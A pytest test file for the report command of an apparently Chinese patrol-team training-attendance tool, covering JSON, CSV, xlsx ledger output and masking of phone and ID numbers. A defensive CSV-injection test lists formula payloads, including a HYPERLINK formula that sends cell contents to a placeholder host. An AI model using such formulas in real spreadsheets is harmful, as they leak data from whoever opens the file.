"""`pingan report`: the JSON contract, CSV, the xlsx ledger and the terminal table,
on imported records with hand-computed expectations. No phone or ID number ever."""

from __future__ import annotations

import csv
import io
import json
import re

import pytest
from openpyxl import load_workbook

from tests.conftest import write_files
from tests.scorer.test_imports import june_sheet

SECRETS = ("13800001234", "138****1234", "500999199001010025")


@pytest.fixture
def june(records_project, tmp_path, run):
    assert run("-C", str(records_project), "attendance", "import", str(june_sheet(tmp_path)))[0] == 0
    return records_project


def report_json(run, root, *period: str) -> dict:
    code, out, err = run("-C", str(root), "report", *period, "--format", "json")
    assert code == 0, err
    assert not any(secret in out for secret in SECRETS)
    return json.loads(out)


def data_rows(sheet):
    """The rows below a ledger sheet's header row, up to the blank line before the signatures."""
    rows = list(sheet.iter_rows())
    header = next(i for i, row in enumerate(rows) if row[0].value == "编号" or row[0].value == "队伍"
                  or row[0].value in ("题库", "时间"))  # fmt: skip
    body = []
    for row in rows[header + 1 :]:
        if row[0].value is None:
            break
        body.append(row)
    return body


def test_month_report_json_contract(june, run):
    data = report_json(run, june, "--month", "2024-06")
    assert data["period"] == "2024-06"
    members = {m["id"]: m for m in data["members"]}
    assert list(members) == ["M001", "M002", "M003", "M004", "M005"]
    assert {
        k: members["M001"][k] for k in ("name", "team", "trainings", "drills", "training_ok", "drill_ok")
    } == {
        "name": "甲一",
        "team": "patrol",
        "trainings": 1,
        "drills": 0,
        "training_ok": True,
        "drill_ok": None,
    }
    assert members["M002"]["training_ok"] is True  # late counts; joined 5-15, June is the first full month
    assert members["M003"]["training_ok"] is False  # excused does not count by default
    assert members["M003"]["missing"] == {"months": ["2024-06"], "quarters": []}
    assert members["M004"]["trainings"] == 0 and members["M004"]["training_ok"] is False


def test_quarter_report_judges_months_from_joining_and_the_drill(june, run):
    members = {m["id"]: m for m in report_json(run, june, "--quarter", "2024Q2")["members"]}
    assert members["M001"]["missing"] == {"months": [], "quarters": ["2024Q2"]}  # April, May: 无记录
    assert members["M001"]["drill_ok"] is False  # marked absent at the drill
    assert (
        members["M002"]["training_ok"] is True and members["M002"]["drill_ok"] is None
    )  # Q2 not a full quarter
    teams = {t["id"]: t for t in report_json(run, june, "--quarter", "2024Q2")["teams"]}
    assert teams["patrol"]["monthly_rate"]["2024-06"] == pytest.approx(
        2 / 3, abs=1e-4
    )  # M001, M002 of M001, M002, M004


def test_which_statuses_count_is_configurable(june, run):
    config = (june / "site_config.yml").read_text(encoding="utf-8")
    write_files(
        june, {"site_config.yml": config + "records:\n  counted_statuses: [present, late, excused]\n"}
    )
    members = {m["id"]: m for m in report_json(run, june, "--month", "2024-06")["members"]}
    assert members["M003"]["training_ok"] is True


def test_csv_table_and_xlsx_ledger(june, run, tmp_path):
    code, out, _ = run("-C", str(june), "report", "--month", "2024-06", "--format", "csv")
    assert code == 0
    assert out.startswith("\ufeff编号,")  # a BOM: Excel on Chinese Windows reads UTF-8
    lines = out.removeprefix("\ufeff").splitlines()
    assert lines[0] == "编号,姓名,队伍,培训次数,培训,缺少,测验"  # a month report: no drill column
    assert lines[3] == "M003,丙三,保安联防队,0,未达标,2024年6月培训,"
    code, out, _ = run("-C", str(june), "report", "--month", "2024-06")
    assert (
        code == 0
        and "某某乡人民政府2024年6月培训演练考核台账" in out
        and "专（兼）职巡防队：培训达标 2/3" in out
    )
    target = tmp_path / "ledger.xlsx"
    code, out, _ = run(
        "-C", str(june), "report", "--quarter", "2024Q2", "--format", "xlsx", "-o", str(target)
    )
    assert code == 0
    workbook = load_workbook(target)
    assert workbook.sheetnames == ["队伍汇总", "队员明细", "缺训名单", "测验成绩", "试题分析", "导入记录"]
    missing = [[c.value for c in row] for row in data_rows(workbook["缺训名单"])]
    assert [row[0] for row in missing] == ["M001", "M003", "M004", "M005"]
    cells = " ".join(str(c.value) for ws in workbook for row in ws.iter_rows() for c in row if c.value)
    assert not any(secret in cells for secret in SECRETS)


def test_default_xlsx_goes_beside_the_records_where_a_build_leaves_it(june, run):
    code, out, _ = run("-C", str(june), "report", "--year", "2024", "--format", "xlsx")
    assert code == 0
    from generator.content import load_project

    paths = load_project(june).paths  # beside the SQLite file (wherever the test's database is)
    ledger = paths.reports_dir / "台账-2024.xlsx"
    assert ledger.parent.name == "台账" and not ledger.is_relative_to(paths.team_site.parent)
    assert ledger.is_file() and "台账-2024.xlsx" in out
    assert run("-C", str(june), "build", "--no-print")[0] == 0
    assert ledger.is_file()


def test_bad_period_is_a_clear_error(june, run):
    code, _, err = run("-C", str(june), "report", "--month", "2024-13")
    assert code == 1 and "时间段“2024-13”无法识别" in err and "Traceback" not in err
    code, _, err = run("-C", str(june), "report")
    assert code == 1 and "请在 --month、--quarter、--year 中选择一个" in err


# Roster names a clerk might paste from elsewhere, or an attacker might choose: each would be
# a live formula in a spreadsheet (OWASP CSV injection) if written as it is.
FORMULA_NAMES = {
    "M001": '=HYPERLINK("https://e.invalid/?leak="&A1,"点我")',
    "M002": "+1+1",
    "M003": "-2+3",
    "M004": "@SUM(1,2)",
    "M005": "=1+1",
}


def test_names_that_look_like_formulas_stay_text_in_the_csv_and_the_xlsx_ledger(june, run, tmp_path):
    roster = june / "content" / "roster.yml"
    text = roster.read_text(encoding="utf-8").replace("name: 专（兼）职巡防队", "name: =2*3")
    for member_id, name in FORMULA_NAMES.items():
        head, _, tail = text.partition(f"id: {member_id}\n")
        old_name = tail.split("\n", 1)[0].split("name: ", 1)[1]
        text = head + f"id: {member_id}\n" + tail.replace(f"name: {old_name}", f"name: '{name}'", 1)
    roster.write_text(text, encoding="utf-8")

    code, out, err = run("-C", str(june), "report", "--month", "2024-06", "--format", "csv")
    assert code == 0, err
    rows = {row[0]: row for row in csv.reader(io.StringIO(out))}
    for member_id, name in FORMULA_NAMES.items():
        assert rows[member_id][1] == "'" + name  # a quote in front: shown as text, never run
    assert rows["M001"][2] == "'=2*3" and rows["M001"][3] == "1"  # numbers stay numbers

    target = tmp_path / "ledger.xlsx"
    code, _, err = run("-C", str(june), "report", "--month", "2024-06", "--format", "xlsx", "-o", str(target))
    assert code == 0, err
    workbook = load_workbook(target)
    members = {row[0].value: row for row in data_rows(workbook["队员明细"])}
    for member_id, name in FORMULA_NAMES.items():
        cell = members[member_id][1]
        assert (cell.data_type, cell.value, cell.quotePrefix) == ("s", name, True)
    team = members["M001"][2]
    assert (team.data_type, team.value, team.quotePrefix) == ("s", "=2*3", True)
    assert members["M001"][3].data_type == "n"
    summary = workbook["队伍汇总"]
    formulas = [c.coordinate for ws in workbook for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == [], formulas
    assert any(c.value == "=2*3" for row in summary.iter_rows() for c in row)


def test_numbers_typed_into_names_team_names_and_bank_titles_are_masked_in_every_format(june, run, tmp_path):
    """A phone or ID typed into free text the ledger shows (a member's name, a team name, a bank
    title) is masked or removed in the JSON, the CSV, the terminal table and every xlsx sheet."""
    from tests.scorer.test_imports import result_file

    roster = (june / "content/roster.yml").read_text(encoding="utf-8")
    roster = roster.replace("name: 专（兼）职巡防队", "name: 巡防队（队长 138 0000 1234）")
    roster = roster.replace("name: 乙二", "name: 乙二（１３９－１２３４－５６７８）")
    bank = (june / "quizzes/basics.yml").read_text(encoding="utf-8")
    bank = bank.replace(
        "title: 基础知识练习", "title: 基础知识练习（咨询 138.0000.1234，证 500999 1990 0101 0025）"
    )
    write_files(june, {"content/roster.yml": roster, "quizzes/basics.yml": bank})
    answers = result_file(tmp_path, "a.json", {"q1": "B", "q2": True})
    assert run("-C", str(june), "answers", "import", str(answers))[0] == 0

    def clean(text: str, where: str, shown: tuple[str, ...]) -> None:
        digits = re.sub(r"\D", "", text)
        assert "13800001234" not in digits and "13912345678" not in digits, where
        assert "5009991990010100" not in digits, where
        assert all(masked in text for masked in shown), where

    names = ("138****1234", "139****5678")  # the team's and the member's name; bank titles only in xlsx
    for fmt in ("json", "csv", "table"):
        code, out, err = run("-C", str(june), "report", "--month", "2024-06", "--format", fmt)
        assert code == 0, err
        clean(out, fmt, names)
    target = tmp_path / "ledger.xlsx"
    assert run("-C", str(june), "report", "--month", "2024-06", "--format", "xlsx", "-o", str(target))[0] == 0
    workbook = load_workbook(target)
    cells = "\n".join(str(c.value) for ws in workbook for row in ws.iter_rows() for c in row if c.value)
    clean(cells, "xlsx", (*names, "［证件号已隐去］"))
    quiz_titles = [row[2].value for row in data_rows(workbook["测验成绩"])]
    assert quiz_titles == ["基础知识练习（咨询 138****1234，证 ［证件号已隐去］）"]
